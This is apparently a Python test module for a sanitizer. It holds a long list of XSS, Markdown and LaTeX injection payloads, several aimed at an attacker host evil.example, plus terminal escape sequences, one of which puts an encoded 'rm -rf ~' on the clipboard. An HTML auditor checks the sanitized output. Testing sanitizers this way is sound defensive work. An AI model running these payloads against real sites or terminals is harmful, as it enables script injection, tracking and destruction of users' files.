"""Hostile text for every surface of the live view, and what must hold for the HTML made of it."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

DOMPURIFY = Path(__file__).resolve().parents[3] / "shared" / "xss" / "dompurify.json"

# Written for this project: HTML, Markdown and LaTeX a model, a tool or a server might send.
OWN_PAYLOADS = (
    # scripts and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><button>send</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; *{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/p.png)'>x</p>",
    "<img srcset='https://evil.example/a.png 1x, https://evil.example/b.png 2x'>",
    "<picture><source srcset=https://evil.example/a.webp></picture>",
    "<table background=https://evil.example/p.png><td background=https://evil.example/q.png>x</table>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<a id=attributes name=body href=https://ok.example>clobber</a>",
    "<img name=cookie><form id=document><input name=body></form>",
    # mutation
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><maction actiontype='statusline' href='javascript:alert(1)'>x</maction></math>",
    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template><template><style></template><img src=x onerror=alert(1)>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?php x ?>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "</div></section></body></html><script>alert(1)</script>",
    "</section></div><h1>outside</h1>",
    "</td></tr></table></pre></code></details>outside",
    "<plaintext>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "\x00<scr\x00ipt>alert(1)</script>",
    '<a href="https://ok.example/" onclick=alert(1) target=_top rel=opener>x</a>',
    # addresses
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='http:relative'>x</a>",
    "<a href='/api/shutdown'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    # Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1) \"t' onclick='alert(1)\")",
    '[x](https://ok.example "&quot; onmouseover=alert(1) x=&quot;")',
    '[x](https://ok.example/"onmouseover=alert(1))',
    "[x][y]\n\n[y]: javascript:alert(1) 'title'",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    'https://ok.example/"><img src=x onerror=alert(1)>',
    "https://ok.example/'onclick='alert(1)",
    "https://javascript:alert(1)@evil.example/",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    '!["onerror=alert(1) x="](x)',
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "![x][p]\n\n[p]: https://evil.example/pixel.png",
    '```" onmouseover="alert(1)\ncode\n```',
    "```python'><script>alert(1)</script>\nx = '</code></pre><script>alert(1)</script>'\n```",
    "~~~<img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n~~~",
    "```html\n<script>alert(1)</script>\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "    </code></pre><img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> | b |\n|:-:|---|\n| </td></table><script>alert(1)</script> | x |",
    "- [x] <input type=checkbox onclick=alert(1)>",
    "<details>\n<summary onclick=alert(1)>s</summary>\n\n<img src=x onerror=alert(1)>\n\n</details></section>",
    "[^1]\n\n[^1]: javascript:alert(1)",
    "[^a]: <img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<img src=x onerror=alert(1)>",
    "<b\nonclick=alert(1)\n>x</b>",
    '<a href="https://ok.example"title=\'a"onclick=alert(1)\'>x</a>',
    # LaTeX
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\includegraphics{https://evil.example/p.png}$",
    r"$\style{background:url(https://evil.example/p.png);position:fixed}{x}$",
    r"$\class{jp-Cell}{x}$ $\cssId{body}{x}$ $\htmlId{body}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\color{red;background:url(https://evil.example)}{x}$",
    r"$\textcolor{\"onmouseover=alert(1)}{x}$",
    r"$$\mathrm{</math><script>alert(1)</script>}$$",
    r"\(x</mi></math><img src=x onerror=alert(1)>\)",
    r"\[\hspace{99999em}\raisebox{-9999px}{x}\kern{-9999em}x\]",
    r"$\def\x{\x\x}\x$ $\newcommand{\y}{\y\y}\y$",
    # text
    "\u202ealert(1)\u2066 \u202dabc &#x202e;x &#8238;y",
    "\ud800 \udfff \ufffe",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
)


# What a terminal obeys, what turns text round, and what no file can hold.
CONTROL_SEQUENCES = (
    "\x1b]52;c;cm0gLXJmIH4=\x07",  # writes to the clipboard
    "\x1b]0;root@host\x1b\\",  # renames the window
    "\x1b]8;;https://evil.example\x1b\\pypi.org\x1b]8;;\x1b\\",  # a link that says another address
    "\x1b[2J\x1b[1;1H",  # clears, and goes to the top
    "\x1b[1A\x1b[2Kall tests passed",  # writes over the line above
    "\x1bP+q544e\x1b\\",  # asks the terminal, whose answer is typed into the shell
    "\x9d52;c;aGk=\x9c",  # the same in C1
    "\x9b31m",
    "approved\rrejected",
    "\x07\x08\x08\x7f\x00",
    "\u202egpj.exe\u202c",  # Trojan Source
    "\u2066admin\u2069 \u2067user\u2069",
    "half \ud83d",
    "\udc80 half",
    "\ufdd0\ufffe\uffff",
)


def dompurify_payloads() -> list[str]:
    """Return the payloads of DOMPurify's own tests; empty where they are not at hand."""
    if not DOMPURIFY.exists():
        return []
    return [case["payload"] for case in json.loads(DOMPURIFY.read_text("utf-8"))["payloads"]]


PROSE = set(
    "a abbr b bdi blockquote br caption cite code col colgroup dd del details dfn div dl dt em h1 h2 h3"
    " h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup"
    " table tbody td tfoot th thead tr u ul var wbr".split()
)
MATHML = set(
    "annotation math menclose mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace"
    " msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover none semantics".split()
)
FORBIDDEN_ATTRIBUTES = re.compile(
    r"on.*|style|id|name|src(?:set)?|action|formaction|background|poster|xlink:href|xmlns.*|data|is|slot"
    r"|contenteditable|tabindex|autofocus|accesskey|popover.*"
)
VOID = {"br", "col", "hr", "img", "wbr"}


class _Auditor(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.faults: list[str] = []
        self.stack: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in PROSE | MATHML:
            self.faults.append(f"<{tag}>")
        if tag not in VOID:
            self.stack.append(tag)
        for name, value in attrs:
            embedded = (tag, name) == ("img", "src") and re.match(
                r"data:image/(png|jpeg|gif|webp);base64,", value or ""
            )
            if FORBIDDEN_ATTRIBUTES.fullmatch(name) and not embedded:
                self.faults.append(f"{tag} {name}={value}")
            if name == "href" and not re.match(r"(https?://|mailto:)[^/]", value or "", re.I):
                self.faults.append(f"{tag} href={value}")
        if tag == "a" and "href" in dict(attrs):
            given = dict(attrs)
            if (given.get("rel"), given.get("target")) != (
                "noopener noreferrer nofollow",
                "_blank",
            ):
                self.faults.append(f"a rel={given.get('rel')} target={given.get('target')}")

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack.pop() != tag:
            self.faults.append(f"unbalanced </{tag}>")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl!r}")

    unknown_decl = handle_pi = handle_decl


def faults(html: str) -> list[str]:
    """Say what in `html` may not be on the page, as far as a reader without a browser can tell."""
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    if auditor.stack:
        auditor.faults.append(f"left open: {auditor.stack}")
    if unfit := re.search(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", html
    ):
        auditor.faults.append(f"character {unfit.group()!r}")
    return auditor.faults
